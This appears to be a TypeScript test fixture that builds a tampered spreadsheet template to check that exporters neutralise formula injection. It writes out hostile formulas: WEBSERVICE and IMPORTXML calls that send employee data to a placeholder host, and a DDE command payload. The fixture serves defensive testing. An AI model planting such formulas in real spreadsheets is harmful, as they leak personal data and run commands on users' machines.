/**
 * A template forced past the importer (built in code, or changed after import): every text
 * field starts like a formula, and one Summary formula is outside the vocabulary. The trust
 * tests of every writer render it and check that nothing but the checked formula is live.
 */
import { BUILTIN_TEMPLATES, type FirmTemplate } from '../src/templates';

/** Issue 8's reproductions. */
export const WEBSERVICE = '=WEBSERVICE("https://x.example/?d="&Employees!C2)';
export const DDE = "=cmd|' /C calc'!A0";
export const IMPORTXML = '=IMPORTXML("https://x.example/?q="&TEXTJOIN(",",TRUE,Employees!A2:D500),"//a")';
export const HYPERLINK = '=HYPERLINK("https://x.example","name")';

const software = BUILTIN_TEMPLATES.software;

/** A template built in code (or tampered with after import): every text field hostile. */
export const FORCED: FirmTemplate = {
  ...software,
  id: '@evil',
  name: HYPERLINK,
  firm: WEBSERVICE,
  version: '+1+1',
  roles: [{ role: DDE, low: 0.5, high: 1 }, ...software.roles.slice(1)],
  sheets: software.sheets.map((s, i) =>
    i === 0
      ? {
          ...s,
          columns: s.columns.map((c, j) =>
            j === 5 ? { ...c, header: '@SUM(1)' } : j === 2 ? { ...c, list: ['US', '=1+1'] } : c,
          ),
        }
      : s,
  ),
  summary: [
    { line: '-1', label: '\t=1+1', formula: IMPORTXML },
    { line: '48', label: 'Total', formula: '=SUM(C2:C2)' },
  ],
};
